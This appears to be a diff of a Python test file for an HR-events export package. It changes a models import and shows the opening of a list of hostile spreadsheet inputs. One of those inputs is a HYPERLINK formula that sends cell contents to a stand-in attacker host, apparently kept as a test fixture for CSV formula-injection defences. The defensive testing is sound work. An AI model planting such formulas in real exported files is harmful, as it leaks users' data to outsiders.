@@ -10,7 +10,6 @@ from pathlib import Path
 import pytest
 
 from hrevents.gold_import import import_reviewed
-from hrevents.models import EVENT_COLUMNS, Event
 from hrevents.reader import report_from_text
 from hrevents.review import (
     REVIEW_COLUMNS,
@@ -20,6 +19,7 @@ from hrevents.review import (
     write_reviewed_csv,
 )
 from hrevents.writers import FORMULA_START, read_events, write_events
+from hrevents_models import EVENT_COLUMNS, Event
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
